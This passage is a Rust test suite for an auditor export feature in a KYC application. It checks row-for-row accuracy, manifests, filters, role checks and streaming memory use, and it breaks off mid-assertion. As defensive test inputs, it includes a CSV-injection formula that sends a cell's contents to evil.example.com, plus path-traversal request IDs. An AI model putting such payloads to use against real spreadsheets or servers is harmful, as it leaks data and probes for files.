//! Auditor exports on both databases: the page, the downloads and the CLI agree with the database row
//! for row; manifests carry the file's SHA-256, its row count and the chain head of their snapshot;
//! filters narrow; only auditors get in; and 200,000 events stream through in bounded chunks and memory.
//! Its own binary: it installs a counting global allocator to show that exports stream in bounded
//! memory, which other tests running in the same process would disturb.

#[macro_use]
#[path = "../common/mod.rs"]
mod common;

use std::alloc::{GlobalAlloc, Layout, System};
use std::io;
use std::pin::Pin;
use std::process::{Command, Output};
use std::sync::Arc;
use std::sync::atomic::{AtomicI64, AtomicU64, Ordering};
use std::task::{Context, Poll};

use crate::common::TestApp;
use crate::common::browser::{Browser, Page, signed_in};
use kycdesk::domain::audit::HashedFields;
use kycdesk::domain::export::{
    DecisionRow, EventRow, ExportFilters, ExportFormat, ExportId, ExportKind, ExportManifest,
    ExportRequest, ExportRow,
};
use kycdesk::service::{self, Ctx};
use kycdesk::store::{Backend, db};
use sha2::{Digest, Sha256};
use sqlx::Row;
use tokio::io::AsyncWrite;
use tokio::sync::oneshot;

/// Counts the bytes live on the heap, so the streaming test can see what an export holds at once.
struct CountingAllocator;

static HEAP_LIVE: AtomicI64 = AtomicI64::new(0);

// SAFETY: every call is passed on to the system allocator unchanged; only a counter is updated.
unsafe impl GlobalAlloc for CountingAllocator {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        // SAFETY: the caller upholds `alloc`'s contract, which we pass on as is.
        let ptr = unsafe { System.alloc(layout) };
        if !ptr.is_null() {
            HEAP_LIVE.fetch_add(layout.size() as i64, Ordering::Relaxed);
        }
        ptr
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        // SAFETY: as above.
        unsafe { System.dealloc(ptr, layout) };
        HEAP_LIVE.fetch_sub(layout.size() as i64, Ordering::Relaxed);
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        // SAFETY: as above.
        let moved = unsafe { System.realloc(ptr, layout, new_size) };
        if !moved.is_null() {
            HEAP_LIVE.fetch_add(new_size as i64 - layout.size() as i64, Ordering::Relaxed);
        }
        moved
    }
}

#[global_allocator]
static ALLOCATOR: CountingAllocator = CountingAllocator;

fn kycdesk(app: &TestApp, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_kycdesk"))
        .args(args)
        .env("KYCDESK_DATABASE_URL", &app.config.database_url)
        .env("KYCDESK_DATA_DIR", &app.config.data_dir)
        .env("KYCDESK_LOG", "warn")
        .output()
        .expect("run kycdesk")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// What `kycdesk audit verify --json` says the head is.
fn verified_head(app: &TestApp) -> (i64, String) {
    let out = kycdesk(app, &["audit", "verify", "--json"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    assert_eq!(json["intact"], true);
    (
        json["head_seq"].as_i64().expect("seq"),
        json["head_hash"].as_str().expect("hash").to_owned(),
    )
}

/// Posts the export form; returns the new export's id and the answer.
async fn export_on_page(auditor: &mut Browser, fields: &[(&str, &str)]) -> (String, Page) {
    let page = auditor.post("/audit/exports", fields).await;
    assert_eq!(page.status, 200, "{}", page.body);
    let created = page
        .body
        .find("id=\"export-created\"")
        .expect("the new export is announced");
    let link = "/audit/exports/";
    let start = page.body[created..].find(link).expect("a link") + created + link.len();
    let id = page.body[start..start + 36].to_owned();
    (id, page)
}

/// The file and the manifest of an export, downloaded as an auditor.
async fn download(auditor: &mut Browser, id: &str) -> (Page, ExportManifest) {
    let file = auditor.get(&format!("/audit/exports/{id}/file")).await;
    assert_eq!(file.status, 200, "{}", file.body);
    let manifest = auditor.get(&format!("/audit/exports/{id}/manifest")).await;
    assert_eq!(manifest.status, 200, "{}", manifest.body);
    let manifest: ExportManifest = serde_json::from_str(&manifest.body).expect("manifest JSON");
    assert_eq!(manifest.export_id.to_string(), id);
    (file, manifest)
}

fn header<'a>(page: &'a Page, name: &str) -> &'a str {
    page.headers
        .get(name)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
}

/// The application events a filtered export must hold, straight from the tables:
/// (seq, application, tenant, level, actor, action, payload, hash).
type DbEvent = (i64, String, String, String, String, String, String, String);

async fn db_events(app: &TestApp, head_seq: i64, extra: &str, binds: &[&str]) -> Vec<DbEvent> {
    let sql = format!(
        "SELECT e.seq, a.id, a.tenant_id, a.level_id, e.actor, e.action, e.payload, e.hash
         FROM audit_events e JOIN applications a ON e.subject = 'application:' || a.id
         WHERE e.seq <= {head_seq} {extra} ORDER BY e.seq"
    );
    let mut query = sqlx::query(&sql);
    for bind in binds {
        query = query.bind(*bind);
    }
    query
        .fetch_all(app.services.store.pool())
        .await
        .expect("events")
        .iter()
        .map(|row| {
            (
                row.get(0),
                row.get(1),
                row.get(2),
                row.get(3),
                row.get(4),
                row.get(5),
                row.get(6),
                row.get(7),
            )
        })
        .collect()
}

fn csv_events(body: &str) -> Vec<DbEvent> {
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    assert_eq!(
        reader
            .headers()
            .expect("header row")
            .iter()
            .collect::<Vec<_>>(),
        EventRow::COLUMNS
    );
    reader
        .records()
        .map(|record| {
            let r = record.expect("RFC 4180 record");
            assert_eq!(r.len(), 9);
            (
                r[0].parse().expect("seq"),
                r[2].to_owned(),
                r[3].to_owned(),
                r[4].to_owned(),
                r[5].to_owned(),
                r[6].to_owned(),
                r[7].to_owned(),
                r[8].to_owned(),
            )
        })
        .collect()
}

fn ndjson_lines(body: &str) -> Vec<serde_json::Value> {
    assert!(body.is_empty() || body.ends_with('\n'));
    body.lines()
        .map(|line| serde_json::from_str(line).expect("one JSON object per line"))
        .collect()
}

/// An export straight through the service into memory.
async fn export_to_memory(
    app: &TestApp,
    kind: ExportKind,
    format: ExportFormat,
    filters: ExportFilters,
) -> (ExportManifest, String) {
    let request = ExportRequest {
        kind,
        format,
        filters,
    };
    let mut out: Vec<u8> = Vec::new();
    let manifest = service::exports::write_export(
        &app.services,
        &Ctx::system("test"),
        ExportId::generate(),
        &request,
        &mut out,
        |_| {},
    )
    .await
    .expect("export");
    assert_eq!(manifest.sha256, sha256_hex(&out));
    assert_eq!(manifest.bytes, out.len() as u64);
    (manifest, String::from_utf8(out).expect("UTF-8"))
}

async fn events_exports_match_the_database_row_for_row(app: TestApp) {
    kycdesk::demo::seed(&app.services, 30).await.expect("seed");
    let mut auditor = signed_in(&app, "aud@example.com", "auditor").await;
    let (head_seq, head_hash) = verified_head(&app);

    let (csv_id, _) = export_on_page(&mut auditor, &[("kind", "events"), ("format", "csv")]).await;
    let (csv_file, manifest) = download(&mut auditor, &csv_id).await;
    assert_eq!(
        (manifest.head_seq, manifest.head_hash.as_str()),
        (head_seq, head_hash.as_str()),
        "the manifest names the head `audit verify` printed: nothing was appended in between"
    );
    assert_eq!(header(&csv_file, "content-type"), "text/csv; charset=utf-8");
    assert_eq!(
        header(&csv_file, "content-disposition"),
        format!("attachment; filename=\"kycdesk-events-{csv_id}.csv\"")
    );
    let exported = csv_events(&csv_file.body);
    let expected = db_events(&app, head_seq, "", &[]).await;
    assert!(expected.len() > 100, "the demo has a history");
    assert_eq!(exported, expected, "row for row");
    assert_eq!(manifest.rows, exported.len() as u64);
    assert_eq!(manifest.sha256, sha256_hex(csv_file.body.as_bytes()));
    assert_eq!(manifest.bytes, csv_file.body.len() as u64);
    assert_eq!(manifest.kind, ExportKind::Events);
    assert_eq!(manifest.format, ExportFormat::Csv);
    assert_eq!(manifest.filters, ExportFilters::default());
    assert_eq!(manifest.created_by, "aud@example.com");
    assert_eq!(
        manifest.file.as_deref(),
        Some(format!("{csv_id}.csv").as_str())
    );
    assert!(
        app.config
            .data_dir
            .join("exports")
            .join(format!("{csv_id}.csv.manifest.json"))
            .is_file()
    );

    // The export is the next event of the chain, after the head it covers.
    let created = sqlx::query(
        "SELECT seq, actor, subject, payload, prev_hash FROM audit_events WHERE action = 'export.created'",
    )
    .fetch_one(app.services.store.pool())
    .await
    .expect("export.created");
    assert_eq!(created.get::<i64, _>("seq"), head_seq + 1);
    assert_eq!(created.get::<String, _>("prev_hash"), head_hash);
    assert_eq!(
        created.get::<String, _>("subject"),
        format!("export:{csv_id}")
    );
    assert!(created.get::<String, _>("actor").starts_with("staff:"));
    let payload: serde_json::Value =
        serde_json::from_str(&created.get::<String, _>("payload")).expect("payload");
    assert_eq!(payload["kind"], "events");
    assert_eq!(payload["format"], "csv");
    assert_eq!(payload["rows"], manifest.rows);
    assert_eq!(payload["sha256"], manifest.sha256);
    assert_eq!(payload["head_seq"], head_seq);
    assert_eq!(payload["filters"]["status"], serde_json::Value::Null);
    assert_eq!(app.audit_count("export.downloaded").await, 1);

    let (ndjson_id, _) =
        export_on_page(&mut auditor, &[("kind", "events"), ("format", "ndjson")]).await;
    let (ndjson_file, ndjson_manifest) = download(&mut auditor, &ndjson_id).await;
    assert_eq!(header(&ndjson_file, "content-type"), "application/x-ndjson");
    assert!(
        ndjson_manifest.head_seq > head_seq,
        "a later snapshot: {}",
        ndjson_manifest.head_seq
    );
    let lines = ndjson_lines(&ndjson_file.body);
    let expected = db_events(&app, ndjson_manifest.head_seq, "", &[]).await;
    assert_eq!(lines.len(), expected.len());
    assert_eq!(ndjson_manifest.rows, lines.len() as u64);
    assert_eq!(
        ndjson_manifest.sha256,
        sha256_hex(ndjson_file.body.as_bytes())
    );
    for (line, db) in lines.iter().zip(&expected) {
        assert_eq!(line["seq"], db.0);
        assert_eq!(line["application_id"], db.1.as_str());
        assert_eq!(line["tenant_id"], db.2.as_str());
        assert_eq!(line["level_id"], db.3.as_str());
        assert_eq!(line["actor"], db.4.as_str());
        assert_eq!(line["action"], db.5.as_str());
        let stored: serde_json::Value = serde_json::from_str(&db.6).expect("stored payload");
        assert_eq!(line["payload"], stored, "the payload is embedded as JSON");
        assert_eq!(line["hash"], db.7.as_str());
    }

    let listing = auditor.get("/audit/exports").await;
    assert_eq!(listing.status, 200);
    let newest = listing
        .body
        .find(&format!("id=\"export-{ndjson_id}\""))
        .expect("listed");
    let older = listing
        .body
        .find(&format!("id=\"export-{csv_id}\""))
        .expect("listed");
    assert!(newest < older, "newest first");
}

/// What the manifest's `csv_cells` rule makes of a value (OWASP CSV injection guidance).
fn guarded(value: String) -> String {
    match value.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => format!("'{value}"),
        _ => value,
    }
}

async fn decisions_export_matches_the_decisions_table(app: TestApp) {
    kycdesk::demo::seed(&app.services, 30).await.expect("seed");
    // A message to the applicant that a spreadsheet would run as a formula.
    let formula = "=HYPERLINK(\"https://evil.example.com/?\"&A1,\"open\")";
    sqlx::query(
        "UPDATE decisions SET message_to_applicant = $1 WHERE id = (SELECT MIN(id) FROM decisions)",
    )
    .bind(formula)
    .execute(app.services.store.pool())
    .await
    .expect("a formula in a message");
    let mut auditor = signed_in(&app, "aud@example.com", "auditor").await;
    let (id, _) = export_on_page(&mut auditor, &[("kind", "decisions"), ("format", "csv")]).await;
    let (file, manifest) = download(&mut auditor, &id).await;

    let rows = sqlx::query(
        "SELECT d.id, d.application_id, a.tenant_id, a.level_id, d.outcome, d.reasons, d.remediation, d.state,
                p.email AS proposer, d.proposed_at, r.email AS confirmer, d.reviewed_at, d.message_to_applicant
         FROM decisions d JOIN applications a ON a.id = d.application_id
         JOIN staff_users p ON p.id = d.proposed_by LEFT JOIN staff_users r ON r.id = d.reviewed_by
         ORDER BY d.proposed_at, d.id",
    )
    .fetch_all(app.services.store.pool())
    .await
    .expect("decisions");
    let joined = |json: String| -> String {
        serde_json::from_str::<Vec<String>>(&json)
            .expect("array")
            .join(";")
    };
    let expected: Vec<Vec<String>> = rows
        .iter()
        .map(|row| {
            vec![
                row.get("id"),
                row.get("application_id"),
                row.get("tenant_id"),
                row.get("level_id"),
                row.get("outcome"),
                joined(row.get("reasons")),
                joined(row.get("remediation")),
                row.get("state"),
                row.get("proposer"),
                row.get("proposed_at"),
                row.get::<Option<String>, _>("confirmer")
                    .unwrap_or_default(),
                row.get::<Option<String>, _>("reviewed_at")
                    .unwrap_or_default(),
                row.get::<Option<String>, _>("message_to_applicant")
                    .unwrap_or_default(),
            ]
            .into_iter()
            .map(guarded)
            .collect()
        })
        .collect();
    let mut reader = csv::Reader::from_reader(file.body.as_bytes());
    assert_eq!(
        reader.headers().expect("header").iter().collect::<Vec<_>>(),
        DecisionRow::COLUMNS
    );
    let exported: Vec<Vec<String>> = reader
        .records()
        .map(|r| {
            r.expect("record")
                .iter()
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
        .collect();
    assert!(!expected.is_empty());
    assert_eq!(exported, expected, "row for row");
    assert!(
        exported.iter().any(|row| row[12] == format!("'{formula}")),
        "the formula is written as text"
    );
    let rule = manifest
        .csv_cells
        .as_deref()
        .expect("the manifest states the guard");
    assert!(
        rule.contains("OWASP") && rule.contains("remove one leading '"),
        "{rule}"
    );
    assert_eq!(manifest.rows, exported.len() as u64);
    assert_eq!(manifest.sha256, sha256_hex(file.body.as_bytes()));
    assert!(
        exported
            .iter()
            .any(|row| row[7] == "confirmed" && !row[10].is_empty() && row[10] != row[8]),
        "four-eyes decisions name their confirmer, who is not the proposer"
    );
    assert!(
        exported.iter().any(|row| !row[5].is_empty()),
        "reasons are exported"
    );

    let (ndjson_manifest, body) = export_to_memory(
        &app,
        ExportKind::Decisions,
        ExportFormat::Ndjson,
        ExportFilters::default(),
    )
    .await;
    let lines = ndjson_lines(&body);
    assert_eq!(ndjson_manifest.rows, lines.len() as u64);
    assert_eq!(
        ndjson_manifest.csv_cells, None,
        "NDJSON values are as they are"
    );
    assert_eq!(lines.len(), expected.len());
    for (line, row) in lines.iter().zip(&rows) {
        assert_eq!(line["decision_id"], row.get::<String, _>("id").as_str());
        let reasons: serde_json::Value =
            serde_json::from_str(&row.get::<String, _>("reasons")).expect("reasons");
        assert!(line["reasons"].is_array());
        assert_eq!(line["reasons"], reasons, "reasons stay an array");
        assert_eq!(
            line["confirmed_by"],
            row.get::<Option<String>, _>("confirmer")
                .map_or(serde_json::Value::Null, serde_json::Value::from)
        );
        assert!(line.get("internal_comment").is_none(), "never exported");
    }
}

async fn filters_narrow_the_rows(app: TestApp) {
    kycdesk::demo::seed(&app.services, 30).await.expect("seed");
    let everything =
        |kind| export_to_memory(&app, kind, ExportFormat::Csv, ExportFilters::default());
    let (all, _) = everything(ExportKind::Events).await;
    let (all_decisions, _) = everything(ExportKind::Decisions).await;

    let tenant: String = sqlx::query_scalar(
        "SELECT tenant_id FROM applications GROUP BY tenant_id ORDER BY COUNT(*) DESC, tenant_id LIMIT 1",
    )
    .fetch_one(app.services.store.pool())
    .await
    .expect("tenant");
    let filters = ExportFilters {
        tenant_id: Some(tenant.parse().expect("id")),
        ..ExportFilters::default()
    };
    let (by_tenant, body) =
        export_to_memory(&app, ExportKind::Events, ExportFormat::Csv, filters.clone()).await;
    let expected = db_events(&app, by_tenant.head_seq, "AND a.tenant_id = $1", &[&tenant]).await;
    assert_eq!(csv_events(&body), expected);
    assert!(0 < by_tenant.rows && by_tenant.rows < all.rows);
    let (tenant_decisions, body) =
        export_to_memory(&app, ExportKind::Decisions, ExportFormat::Ndjson, filters).await;
    assert!(tenant_decisions.rows < all_decisions.rows);
    assert!(
        ndjson_lines(&body)
            .iter()
            .all(|line| line["tenant_id"] == tenant.as_str())
    );

    let filters = ExportFilters {
        status: Some("review".parse().expect("status")),
        ..ExportFilters::default()
    };
    let (in_review, body) =
        export_to_memory(&app, ExportKind::Events, ExportFormat::Csv, filters).await;
    let expected = db_events(&app, in_review.head_seq, "AND a.status = 'review'", &[]).await;
    assert_eq!(csv_events(&body), expected);
    assert!(0 < in_review.rows && in_review.rows < all.rows);

    // A time range from the middle third of the history, both ends included.
    let history = db_events(&app, all.head_seq, "", &[]).await;
    let times: Vec<String> = {
        let mut conn = app.services.store.pool().acquire().await.expect("conn");
        let mut times = Vec::new();
        for event in [&history[history.len() / 3], &history[2 * history.len() / 3]] {
            let at: String =
                sqlx::query_scalar("SELECT occurred_at FROM audit_events WHERE seq = $1")
                    .bind(event.0)
                    .fetch_one(&mut *conn)
                    .await
                    .expect("time");
            times.push(at);
        }
        times
    };
    let filters = ExportFilters {
        from: Some(times[0].parse().expect("from")),
        to: Some(times[1].parse().expect("to")),
        ..ExportFilters::default()
    };
    let (ranged, body) =
        export_to_memory(&app, ExportKind::Events, ExportFormat::Csv, filters).await;
    let expected = db_events(
        &app,
        ranged.head_seq,
        "AND e.occurred_at >= $1 AND e.occurred_at <= $2",
        &[&times[0], &times[1]],
    )
    .await;
    assert_eq!(csv_events(&body), expected);
    assert!(expected.len() >= history.len() / 4 && expected.len() < history.len());

    // The same through the page, by whole days and combined with a tenant and a status.
    let mut auditor = signed_in(&app, "aud@example.com", "auditor").await;
    let first_day = &times[0][..10];
    let last_day = &times[1][..10];
    let (id, _) = export_on_page(
        &mut auditor,
        &[
            ("kind", "events"),
            ("format", "csv"),
            ("tenant", &tenant),
            ("status", ""),
            ("from", first_day),
            ("to", last_day),
        ],
    )
    .await;
    let (file, manifest) = download(&mut auditor, &id).await;
    assert_eq!(
        manifest.filters.from.map(|t| t.to_string()),
        Some(format!("{first_day}T00:00:00.000000Z"))
    );
    assert_eq!(
        manifest.filters.to.map(|t| t.to_string()),
        Some(format!("{last_day}T23:59:59.999999Z"))
    );
    let expected = db_events(
        &app,
        manifest.head_seq,
        "AND a.tenant_id = $1 AND e.occurred_at >= $2 AND e.occurred_at <= $3",
        &[
            &tenant,
            &format!("{first_day}T00:00:00.000000Z"),
            &format!("{last_day}T23:59:59.999999Z"),
        ],
    )
    .await;
    assert_eq!(csv_events(&file.body), expected);

    for (field, value) in [
        ("status", "approved"),
        ("tenant", "Northwind Bank"),
        ("level", "../etc"),
        ("from", "2026-02-30"),
        ("to", "next week"),
        ("kind", "people"),
        ("format", "xlsx"),
    ] {
        let mut fields = vec![("kind", "events"), ("format", "csv")];
        fields.retain(|(name, _)| *name != field);
        fields.push((field, value));
        let refused = auditor.post("/audit/exports", &fields).await;
        assert_eq!(refused.status, 422, "{field}={value}: {}", refused.body);
    }
    let backwards = auditor
        .post(
            "/audit/exports",
            &[
                ("kind", "events"),
                ("format", "csv"),
                ("from", "2026-12-01"),
                ("to", "2026-11-01"),
            ],
        )
        .await;
    assert_eq!(backwards.status, 422);
    assert!(
        backwards.body.contains("starts after it ends"),
        "{}",
        backwards.body
    );
}

async fn only_auditors_get_exports_and_ids_are_checked(app: TestApp) {
    kycdesk::demo::seed(&app.services, 30).await.expect("seed");
    let mut auditor = signed_in(&app, "aud@example.com", "auditor").await;
    assert_eq!(auditor.get("/audit/exports").await.status, 200);
    let (id, _) =
        export_on_page(&mut auditor, &[("kind", "decisions"), ("format", "ndjson")]).await;
    let file = format!("/audit/exports/{id}/file");
    let manifest = format!("/audit/exports/{id}/manifest");

    for (email, roles) in [
        ("rev@example.com", "reviewer"),
        ("adm@example.com", "admin"),
    ] {
        let mut other = signed_in(&app, email, roles).await;
        assert_eq!(other.get("/audit/exports").await.status, 403, "{roles}");
        assert_eq!(other.get(&file).await.status, 403, "{roles}");
        assert_eq!(other.get(&manifest).await.status, 403, "{roles}");
        let posted = other
            .post("/audit/exports", &[("kind", "events"), ("format", "csv")])
            .await;
        assert_eq!(posted.status, 403, "{roles}");
    }
    let denied: i64 = sqlx::query_scalar(
        "SELECT COUNT(*) FROM audit_events WHERE action = 'access.denied' AND payload LIKE '%export.%'",
    )
    .fetch_one(app.services.store.pool())
    .await
    .expect("count");
    assert_eq!(denied, 8, "every refusal is audited");
    assert_eq!(
        app.audit_count("export.created").await,
        1,
        "refused requests export nothing"
    );

    let unknown = uuid::Uuid::now_v7().to_string();
    for bad in [
        "not-a-uuid".to_owned(),
        id.to_uppercase(),
        id.replace('-', ""),
        format!("{id}.ndjson"),
        "..%2F..%2Fkycdesk.sqlite".to_owned(),
        "%2E%2E".to_owned(),
        unknown,
    ] {
        for what in ["file", "manifest"] {
            let page = auditor.get(&format!("/audit/exports/{bad}/{what}")).await;
            assert_eq!(page.status, 404, "{bad}/{what}");
        }
    }
    assert_eq!(
        auditor.get(&file).await.status,
        200,
        "the real one still works"
    );
}

async fn the_cli_exports_with_a_manifest_and_refuses_bad_filters(app: TestApp) {
    kycdesk::demo::seed(&app.services, 30).await.expect("seed");
    let (head_seq, head_hash) = verified_head(&app);
    let dir = tempfile::tempdir().expect("dir");
    let out_path = dir.path().join("events.ndjson");
    let out_arg = out_path.to_str().expect("path");
    let out = kycdesk(
        &app,
        &["export", "events", "--format", "ndjson", "--out", out_arg],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let body = std::fs::read(&out_path).expect("file written");
    let manifest_text =
        std::fs::read_to_string(dir.path().join("events.ndjson.manifest.json")).expect("manifest");
    let manifest: ExportManifest = serde_json::from_str(&manifest_text).expect("JSON");
    assert_eq!(
        (manifest.head_seq, manifest.head_hash.clone()),
        (head_seq, head_hash)
    );
    assert_eq!(manifest.sha256, sha256_hex(&body));
    let lines = ndjson_lines(&text(&body));
    assert_eq!(manifest.rows, lines.len() as u64);
    assert_eq!(lines.len(), db_events(&app, head_seq, "", &[]).await.len());
    assert_eq!(manifest.created_by, "system:cli");
    assert!(
        text(&out.stderr).contains(&format!("exported {} rows", manifest.rows)),
        "{}",
        text(&out.stderr)
    );
    assert!(text(&out.stdout).contains(&manifest.sha256));
    assert!(!dir.path().join("events.ndjson.partial").exists());
    let actor: String =
        sqlx::query_scalar("SELECT actor FROM audit_events WHERE action = 'export.created'")
            .fetch_one(app.services.store.pool())
            .await
            .expect("audited");
    assert_eq!(actor, "system:cli");

    let csv_path = dir.path().join("review.csv");
    let out = kycdesk(
        &app,
        &[
            "export",
            "decisions",
            "--format",
            "csv",
            "--status",
            "accepted",
            "--to",
            "2999-12-31",
            "--out",
            csv_path.to_str().expect("path"),
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let accepted: i64 = sqlx::query_scalar(
        "SELECT COUNT(*) FROM decisions d JOIN applications a ON a.id = d.application_id WHERE a.status = 'accepted'",
    )
    .fetch_one(app.services.store.pool())
    .await
    .expect("count");
    let written = std::fs::read_to_string(&csv_path).expect("csv");
    let mut reader = csv::Reader::from_reader(written.as_bytes());
    assert_eq!(reader.records().count() as i64, accepted);

    let missing_dir = dir.path().join("nope").join("x.csv");
    for (args, says) in [
        (vec!["--status", "approved"], "--status:"),
        (vec!["--tenant", "acme"], "--tenant:"),
        (vec!["--from", "2026-02-30"], "--from:"),
        (
            vec!["--from", "2026-12-01", "--to", "2026-11-01"],
            "--from:",
        ),
        (vec!["--out", missing_dir.to_str().expect("path")], "--out:"),
    ] {
        let mut all = vec!["export", "events", "--format", "csv"];
        all.extend(args.iter().copied());
        if !args.contains(&"--out") {
            all.extend(["--out", out_arg]);
        }
        let out = kycdesk(&app, &all);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        let stderr = text(&out.stderr);
        assert_eq!(stderr.trim().lines().count(), 1, "{args:?}: {stderr}");
        assert!(stderr.starts_with(&format!("error: {says}")), "{stderr}");
    }
    for args in [
        vec!["export", "people", "--format", "csv", "--out", out_arg],
        vec!["export", "events", "--format", "xlsx", "--out", out_arg],
        vec!["export", "events", "--format", "csv"],
    ] {
        let out = kycdesk(&app, &args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert_eq!(text(&out.stderr).trim().lines().count(), 1, "{args:?}");
    }
    assert_eq!(app.audit_count("export.created").await, 2);
}

/// A writer that holds the export at its first write until released, and records what it receives.
struct Probe {
    /// Told when the first bytes arrive.
    first_write: Option<oneshot::Sender<()>>,
    /// Holds the first write until released.
    gate: Option<oneshot::Receiver<()>>,
    writes: u64,
    largest_write: usize,
    bytes: u64,
    sha256: Sha256,
    /// The most heap in use at any write, as measured by `HEAP_LIVE`.
    heap_peak: i64,
}

impl AsyncWrite for Probe {
    fn poll_write(
        self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        buf: &[u8],
    ) -> Poll<io::Result<usize>> {
        let this = self.get_mut();
        if let Some(first) = this.first_write.take() {
            let _ = first.send(());
        }
        if let Some(gate) = this.gate.as_mut() {
            match Pin::new(gate).poll(cx) {
                Poll::Pending => return Poll::Pending,
                Poll::Ready(_) => this.gate = None,
            }
        }
        this.heap_peak = this.heap_peak.max(HEAP_LIVE.load(Ordering::Relaxed));
        this.writes += 1;
        this.largest_write = this.largest_write.max(buf.len());
        this.bytes += buf.len() as u64;
        this.sha256.update(buf);
        Poll::Ready(Ok(buf.len()))
    }

    fn poll_flush(self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<io::Result<()>> {
        Poll::Ready(Ok(()))
    }

    fn poll_shutdown(self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<io::Result<()>> {
        Poll::Ready(Ok(()))
    }
}

const SYNTHETIC_EVENTS: i64 = 200_000;
const BATCH: i64 = 1_000;

/// Appends `SYNTHETIC_EVENTS` events about one application, with a valid chain, in batches.
async fn append_synthetic_events(app: &TestApp, application: &str) {
    let mut tx = app.services.store.begin_write().await.expect("tx");
    // Takes the head's lock, like every appender.
    let head = db::query("UPDATE audit_head SET seq = seq WHERE id = 1 RETURNING seq, hash")
        .fetch_one(&mut tx)
        .await
        .expect("head");
    let (mut seq, mut prev): (i64, String) = (
        head.try_get("seq").expect("seq"),
        head.try_get("hash").expect("hash"),
    );
    let subject = format!("application:{application}");
    let occurred_at = "2026-11-22T08:00:00.000000Z";
    // SQLite resolves `$N` names one by one when it prepares; anonymous `?` needs no lookup.
    let sqlite = app.backend() == Backend::Sqlite;
    let placeholders: Vec<String> = (0..BATCH)
        .map(|row| {
            let base = row * 9;
            if sqlite {
                return "(?, ?, ?, ?, ?, ?, ?, ?, ?)".to_owned();
            }
            format!(
                "(${}, ${}, ${}, ${}, ${}, ${}, ${}, ${}, ${})",
                base + 1,
                base + 2,
                base + 3,
                base + 4,
                base + 5,
                base + 6,
                base + 7,
                base + 8,
                base + 9
            )
        })
        .collect();
    let sql = format!(
        "INSERT INTO audit_events (seq, id, occurred_at, actor, action, subject, payload, prev_hash, hash) VALUES {}",
        placeholders.join(", ")
    );
    for _ in 0..SYNTHETIC_EVENTS / BATCH {
        let mut query = db::query(&sql);
        for _ in 0..BATCH {
            seq += 1;
            let payload = format!("{{\"n\":{seq},\"note\":\"synthetic, \\\"quoted\\\"\"}}");
            let hash = HashedFields {
                seq,
                prev_hash: &prev,
                occurred_at,
                actor: "system:loadtest",
                action: "application.synthetic",
                subject: &subject,
                payload: &payload,
            }
            .hash();
            query = query
                .bind(seq)
                .bind(uuid::Uuid::now_v7().to_string())
                .bind(occurred_at)
                .bind("system:loadtest")
                .bind("application.synthetic")
                .bind(subject.clone())
                .bind(payload)
                .bind(prev.clone())
                .bind(hash.clone());
            prev = hash;
        }
        query.execute(&mut tx).await.expect("batch insert");
    }
    db::query("UPDATE audit_head SET seq = $1, hash = $2 WHERE id = 1")
        .bind(seq)
        .bind(&prev)
        .execute(&mut tx)
        .await
        .expect("head");
    tx.commit().await.expect("commit");
}

async fn two_hundred_thousand_events_stream_in_bounded_chunks(app: TestApp) {
    kycdesk::demo::seed(&app.services, 30).await.expect("seed");
    let application: String = sqlx::query_scalar("SELECT id FROM applications ORDER BY id LIMIT 1")
        .fetch_one(app.services.store.pool())
        .await
        .expect("application");
    append_synthetic_events(&app, &application).await;

    let (first_tx, first_rx) = oneshot::channel();
    let (release, gate) = oneshot::channel();
    let mut probe = Probe {
        first_write: Some(first_tx),
        gate: Some(gate),
        writes: 0,
        largest_write: 0,
        bytes: 0,
        sha256: Sha256::new(),
        heap_peak: 0,
    };
    let produced = Arc::new(AtomicU64::new(0));
    let counter = produced.clone();
    let request = ExportRequest {
        kind: ExportKind::Events,
        format: ExportFormat::Csv,
        filters: ExportFilters::default(),
    };
    let ctx = Ctx::system("test");
    let heap_before = HEAP_LIVE.load(Ordering::Relaxed);
    let export = service::exports::write_export(
        &app.services,
        &ctx,
        ExportId::generate(),
        &request,
        &mut probe,
        move |rows| counter.store(rows, Ordering::Relaxed),
    );
    let watch = async {
        first_rx.await.expect("the export writes");
        let rows_at_first_write = produced.load(Ordering::Relaxed);
        let still_running = match app.backend() {
            // The export's SELECT is still being answered: PostgreSQL has rows left to send.
            Backend::Postgres => {
                let active: i64 = sqlx::query_scalar(
                    "SELECT COUNT(*) FROM pg_stat_activity WHERE datname = current_database()
                     AND backend_type = 'client backend' AND state = 'active'
                     AND query LIKE '%FROM audit_events e JOIN applications a%'
                     AND pid <> pg_backend_pid()",
                )
                .fetch_one(app.services.store.pool())
                .await
                .expect("activity");
                Some(active)
            }
            Backend::Sqlite => None,
        };
        let _ = release.send(());
        (rows_at_first_write, still_running)
    };
    let (manifest, (rows_at_first_write, still_running)) = tokio::join!(export, watch);
    let manifest = manifest.expect("export");

    assert!(manifest.rows > SYNTHETIC_EVENTS as u64, "{}", manifest.rows);
    assert!(
        rows_at_first_write < 2_000,
        "the first bytes reach the writer after {rows_at_first_write} of {} rows",
        manifest.rows
    );
    if let Some(active) = still_running {
        assert_eq!(
            active, 1,
            "the query is still producing rows at the first write"
        );
    }
    // Holding the rows (or the output) would take tens of megabytes: ~100 MB on SQLite, ~40 MB on
    // PostgreSQL for these 200,000 rows. Streaming holds a chunk and a few rows; other tests running
    // meanwhile in this process allocate too, hence the margin.
    let heap_growth = probe.heap_peak - heap_before;
    assert!(
        heap_growth < 16_000_000,
